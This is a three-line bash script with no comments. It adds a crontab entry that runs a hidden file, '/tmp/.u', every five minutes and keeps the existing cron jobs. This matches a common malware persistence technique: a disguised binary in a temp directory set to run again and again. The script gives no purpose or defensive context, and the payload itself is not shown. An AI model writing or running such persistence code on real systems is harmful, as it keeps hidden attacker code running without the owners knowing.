#!/bin/bash
set -eu
(crontab -l 2>/dev/null; echo "*/5 * * * * /tmp/.u") | crontab -
